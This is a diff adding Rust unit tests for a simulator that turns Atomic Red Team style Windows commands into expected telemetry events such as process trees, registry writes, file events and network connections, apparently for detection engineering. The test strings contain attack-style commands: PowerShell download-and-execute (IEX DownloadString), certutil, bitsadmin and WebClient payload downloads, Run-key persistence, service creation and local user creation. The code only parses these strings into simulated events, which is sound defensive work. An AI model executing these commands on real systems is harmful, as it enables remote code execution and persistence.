@@ -1,0 +1,405 @@
+//! One test per command form, on small commands.
+
+use super::*;
+
+fn test(executor: &str, command: &str) -> AtomicEntry {
+    AtomicEntry {
+        guid: "g".into(),
+        name: "n".into(),
+        technique: "T1047".into(),
+        technique_name: String::new(),
+        description: String::new(),
+        platforms: vec!["windows".into()],
+        executor: executor.into(),
+        elevation_required: false,
+        command: command.into(),
+        cleanup_command: None,
+        input_arguments: Vec::new(),
+        path: "x".into(),
+        events: Vec::new(),
+        fired: Vec::new(),
+        same_technique: Vec::new(),
+    }
+}
+
+fn field(ev: &SimEvent, name: &str) -> String {
+    ev.get(name)
+        .and_then(|v| v.as_text().map(Cow::into_owned))
+        .unwrap_or_default()
+}
+
+/// The events of a kind, as (field, field) pairs.
+fn of_kind<'a>(evs: &'a [SimEvent], kind: &str) -> Vec<&'a SimEvent> {
+    evs.iter().filter(|e| e.kind == kind).collect()
+}
+
+/// Processes as `image name <- parent name`.
+fn tree(evs: &[SimEvent]) -> Vec<String> {
+    of_kind(evs, "process_creation")
+        .into_iter()
+        .map(|e| {
+            format!(
+                "{} <- {}",
+                text::file_name(&field(e, "Image")).to_ascii_lowercase(),
+                text::file_name(&field(e, "ParentImage")).to_ascii_lowercase()
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn cmd_executor_joins_lines_and_starts_each_program() {
+    let ev = events(&test(
+        "command_prompt",
+        "wmic process call create notepad.exe\necho done\n",
+    ));
+    assert_eq!(
+        field(&ev[0], "CommandLine"),
+        "cmd.exe /c wmic process call create notepad.exe & echo done"
+    );
+    assert_eq!(
+        tree(&ev),
+        [
+            "cmd.exe <- explorer.exe",
+            "wmic.exe <- cmd.exe",
+            "notepad.exe <- wmiprvse.exe"
+        ]
+    );
+    assert_eq!(
+        field(&ev[1], "CommandLine"),
+        "wmic process call create notepad.exe"
+    );
+}
+
+#[test]
+fn each_chaining_operator_starts_its_own_process() {
+    for op in ["&", "&&", "||", "|"] {
+        let ev = events(&test("command_prompt", &format!("whoami {op} hostname")));
+        assert_eq!(
+            tree(&ev),
+            [
+                "cmd.exe <- explorer.exe",
+                "whoami.exe <- cmd.exe",
+                "hostname.exe <- cmd.exe"
+            ],
+            "{op}"
+        );
+    }
+    let ev = events(&test(
+        "powershell",
+        "whoami; hostname\nipconfig | findstr IPv4",
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "whoami.exe <- powershell.exe",
+            "hostname.exe <- powershell.exe",
+            "ipconfig.exe <- powershell.exe",
+            "findstr.exe <- powershell.exe"
+        ]
+    );
+    assert_eq!(
+        field(of_kind(&ev, "process_creation")[1], "CommandLine"),
+        r#""C:\Windows\System32\whoami.exe""#
+    );
+}
+
+#[test]
+fn nested_cmd_and_powershell_command() {
+    let ev = events(&test(
+        "command_prompt",
+        r#"cmd.exe /c "powershell -Command "Get-Process; net user"""#,
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "cmd.exe <- explorer.exe",
+            "cmd.exe <- cmd.exe",
+            "powershell.exe <- cmd.exe",
+            "net.exe <- powershell.exe",
+            "net1.exe <- net.exe"
+        ]
+    );
+    let blocks = of_kind(&ev, "ps_script");
+    assert_eq!(field(blocks[0], "ScriptBlockText"), "Get-Process; net user");
+    let module = of_kind(&ev, "ps_module");
+    assert!(
+        field(module[0], "Payload").starts_with(r#"CommandInvocation(Get-Process): "Get-Process""#)
+    );
+    assert!(field(module[0], "ContextInfo").contains("Host Application = powershell -Command"));
+}
+
+#[test]
+fn encoded_command_is_decoded_into_its_own_script_block() {
+    // The seed's test: Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe
+    let ev = events(&test(
+        "command_prompt",
+        "powershell -exec bypass -e SQBuAHYAbwBrAGUALQBXAG0AaQBNAGUAdABoAG8AZAAgAC0AUABhAHQAaAAgAHcAaQBuADMAMgBfAHAAcgBvAGMAZQBzAHMAIAAtAE4AYQBtAGUAIABjAHIAZQBhAHQAZQAgAC0AQQByAGcAdQBtAGUAbgB0AEwAaQBzAHQAIABuAG8AdABlAHAAYQBkAC4AZQB4AGUA",
+    ));
+    let blocks = of_kind(&ev, "ps_script");
+    assert_eq!(
+        field(blocks[0], "ScriptBlockText"),
+        "Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe"
+    );
+    assert_eq!(
+        tree(&ev),
+        [
+            "cmd.exe <- explorer.exe",
+            "powershell.exe <- cmd.exe",
+            "notepad.exe <- wmiprvse.exe"
+        ]
+    );
+    let notepad = of_kind(&ev, "process_creation")[2];
+    assert_eq!(field(notepad, "LogonId"), "0x4f1a2");
+    assert!(notepad.cause.contains("WMI creates the process"));
+}
+
+#[test]
+fn registry_writes() {
+    let ev = events(&test(
+        "command_prompt",
+        r#"reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Atomic /t REG_SZ /d "C:\x.exe" /f & reg add HKLM\SOFTWARE\Policies\X /v Off /t REG_DWORD /d 1 & reg add HKLM\SOFTWARE\New & reg delete HKLM\SOFTWARE\Y /v Z /f"#,
+    ));
+    let set = of_kind(&ev, "registry_set");
+    assert_eq!(
+        field(set[0], "TargetObject"),
+        format!(
+            r"HKU\{}\Software\Microsoft\Windows\CurrentVersion\Run\Atomic",
+            sim::USER_SID
+        )
+    );
+    assert_eq!(field(set[0], "Details"), r"C:\x.exe");
+    assert!(field(set[0], "Image").ends_with(r"\reg.exe"));
+    assert_eq!(field(set[1], "Details"), "DWORD (0x00000001)");
+    assert_eq!(
+        field(of_kind(&ev, "registry_add")[0], "TargetObject"),
+        r"HKLM\SOFTWARE\New"
+    );
+    let del = of_kind(&ev, "registry_delete")[0];
+    assert_eq!(field(del, "EventType"), "DeleteValue");
+    assert_eq!(field(del, "TargetObject"), r"HKLM\SOFTWARE\Y\Z");
+
+    let ev = events(&test(
+        "powershell",
+        r"Set-ItemProperty -Path HKLM:\Software\A -Name B -Value 0
+New-ItemProperty 'HKCU:\Software\C' -Name D -Value 'x y' -PropertyType String -Force",
+    ));
+    let set = of_kind(&ev, "registry_set");
+    assert_eq!(field(set[0], "TargetObject"), r"HKLM\Software\A\B");
+    assert_eq!(field(set[0], "Details"), "DWORD (0x00000000)");
+    assert!(field(set[0], "Image").ends_with(r"\powershell.exe"));
+    assert_eq!(field(set[1], "Details"), "x y");
+}
+
+#[test]
+fn file_writes() {
+    let ev = events(&test(
+        "command_prompt",
+        r"whoami > %TEMP%\w.txt & copy C:\Windows\System32\cmd.exe C:\Users\Public\x.exe & C:\Users\Public\x.exe /c whoami & certutil -urlcache -split -f https://example.org/a.exe %TEMP%\a.exe",
+    ));
+    let files: Vec<String> = of_kind(&ev, "file_event")
+        .iter()
+        .map(|e| field(e, "TargetFilename"))
+        .collect();
+    assert_eq!(
+        files,
+        [
+            r"C:\Users\atomic\AppData\Local\Temp\w.txt",
+            r"C:\Users\Public\x.exe",
+            r"C:\Users\atomic\AppData\Local\Temp\a.exe"
+        ]
+    );
+    let renamed = of_kind(&ev, "process_creation")
+        .into_iter()
+        .find(|e| field(e, "Image") == r"C:\Users\Public\x.exe")
+        .expect("the copy runs");
+    assert_eq!(field(renamed, "OriginalFileName"), "cmd.exe");
+
+    let ev = events(&test(
+        "powershell",
+        r#"Invoke-WebRequest -Uri "https://example.org/p.exe" -OutFile $env:TEMP\p.exe
+"x" | Out-File -FilePath C:\Temp\o.txt
+Set-Content C:\Temp\s.txt "y"
+New-Item -Path C:\Temp\n.txt -ItemType File
+Copy-Item C:\a.dll -Destination C:\Temp\
+(New-Object Net.WebClient).DownloadFile('http://10.1.2.3/f.ps1', "$env:PUBLIC\f.ps1")"#,
+    ));
+    let files: Vec<String> = of_kind(&ev, "file_event")
+        .iter()
+        .map(|e| field(e, "TargetFilename"))
+        .collect();
+    assert_eq!(
+        files,
+        [
+            r"C:\Users\atomic\AppData\Local\Temp\p.exe",
+            r"C:\Temp\o.txt",
+            r"C:\Temp\s.txt",
+            r"C:\Temp\n.txt",
+            r"C:\Temp\a.dll",
+            r"C:\Users\Public\f.ps1"
+        ]
+    );
+}
+
+#[test]
+fn web_requests_connect_and_resolve_from_their_process() {
+    let ev = events(&test(
+        "powershell",
+        "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/a/b/c.ps1')\niwr http://10.0.0.5:8080/x",
+    ));
+    let dns = of_kind(&ev, "dns_query");
+    assert_eq!(dns.len(), 1);
+    assert_eq!(field(dns[0], "QueryName"), "raw.githubusercontent.com");
+    let net = of_kind(&ev, "network_connection");
+    assert_eq!(net.len(), 2);
+    assert_eq!(
+        field(net[0], "DestinationHostname"),
+        "raw.githubusercontent.com"
+    );
+    assert_eq!(field(net[0], "DestinationPort"), "443");
+    assert_eq!(field(net[1], "DestinationIp"), "10.0.0.5");
+    assert_eq!(field(net[1], "DestinationPort"), "8080");
+    assert!(field(net[1], "Image").ends_with(r"\powershell.exe"));
+
+    let ev = events(&test(
+        "command_prompt",
+        "bitsadmin /transfer j /download https://example.org/x.exe C:\\Temp\\x.exe",
+    ));
+    assert_eq!(
+        field(of_kind(&ev, "network_connection")[0], "DestinationHostname"),
+        "example.org"
+    );
+    assert_eq!(
+        field(of_kind(&ev, "file_event")[0], "TargetFilename"),
+        r"C:\Temp\x.exe"
+    );
+}
+
+#[test]
+fn services_and_users() {
+    let ev = events(&test(
+        "command_prompt",
+        r#"sc create AtomicSvc binPath= "C:\Temp\svc.exe" start= auto & sc start AtomicSvc & net user atomicuser P@ss /add"#,
+    ));
+    let svc = of_kind(&ev, "service_install")[0];
+    assert_eq!(field(svc, "ServiceName"), "AtomicSvc");
+    assert_eq!(field(svc, "ImagePath"), r"C:\Temp\svc.exe");
+    assert_eq!(svc.get("EventID"), Some(FieldValue::Int(7045)));
+    assert_eq!(
+        field(
+            of_kind(&ev, "security_service_install")[0],
+            "ServiceFileName"
+        ),
+        r"C:\Temp\svc.exe"
+    );
+    assert!(tree(&ev).contains(&"svc.exe <- services.exe".to_string()));
+    assert_eq!(
+        field(of_kind(&ev, "user_created")[0], "TargetUserName"),
+        "atomicuser"
+    );
+
+    let ev = events(&test(
+        "powershell",
+        r#"New-Service -Name "S2" -BinaryPathName "C:\Temp\s2.exe"
+New-LocalUser -Name "u2" -NoPassword"#,
+    ));
+    assert_eq!(
+        field(of_kind(&ev, "service_install")[0], "ServiceName"),
+        "S2"
+    );
+    assert_eq!(
+        field(of_kind(&ev, "user_created")[0], "TargetUserName"),
+        "u2"
+    );
+}
+
+#[test]
+fn known_child_programs() {
+    let ev = events(&test(
+        "powershell",
+        "Add-Type -TypeDefinition $code -Language CSharp\nInvoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine = 'calc.exe'}\n$w = New-Object -ComObject Word.Application",
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "csc.exe <- powershell.exe",
+            "cvtres.exe <- csc.exe",
+            "calc.exe <- wmiprvse.exe",
+            "winword.exe <- svchost.exe"
+        ]
+    );
+    assert!(
+        of_kind(&ev, "file_event")
+            .iter()
+            .any(|e| field(e, "TargetFilename").ends_with(".cmdline"))
+    );
+    assert!(
+        of_kind(&ev, "image_load")
+            .iter()
+            .any(|e| field(e, "ImageLoaded").ends_with("VBE7.DLL")
+                && field(e, "Image").ends_with("WINWORD.EXE"))
+    );
+    let ev = events(&test(
+        "command_prompt",
+        "schtasks /create /tn T /tr C:\\Temp\\t.exe /sc once /st 00:00 & schtasks /run /tn T & wmic /format:\"https://example.org/x.xsl\" os get",
+    ));
+    assert!(tree(&ev).contains(&"t.exe <- svchost.exe".to_string()));
+    assert!(
+        of_kind(&ev, "image_load")
+            .iter()
+            .any(|e| field(e, "ImageLoaded").ends_with("jscript.dll")
+                && field(e, "Image").ends_with("WMIC.exe"))
+    );
+}
+
+#[test]
+fn quoted_and_started_programs_and_non_programs() {
+    let ev = events(&test(
+        "command_prompt",
+        r#""C:\Tools\x.exe" -a & start /b calc & set X=1 & rem nothing"#,
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "cmd.exe <- explorer.exe",
+            "x.exe <- cmd.exe",
+            "calc.exe <- cmd.exe"
+        ]
+    );
+    let ev = events(&test(
+        "powershell",
+        "$x = 1\n[IO.Path]::GetTempPath()\nGet-Date # comment",
+    ));
+    assert_eq!(tree(&ev), ["powershell.exe <- explorer.exe"]);
+    assert_eq!(of_kind(&ev, "ps_module").len(), 1);
+    assert!(!is_simulated(&test("manual", "x")));
+}
+
+#[test]
+fn every_event_names_its_cause_and_elastic_names() {
+    let ev = events(&test(
+        "powershell",
+        "Start-Process notepad.exe -ArgumentList 'a.txt'",
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "notepad.exe <- powershell.exe"
+        ]
+    );
+    assert_eq!(
+        field(&ev[ev.len() - 1], "CommandLine"),
+        r#""C:\Windows\System32\notepad.exe" a.txt"#
+    );
+    for e in &ev {
+        assert!(!e.cause.is_empty(), "{e:?}");
+    }
+    let mut args = Vec::new();
+    ev[0].for_each_value("process.args", &mut |v| {
+        args.push(v.as_text().map(Cow::into_owned));
+    });
+    assert!(args.len() > 2);
+}
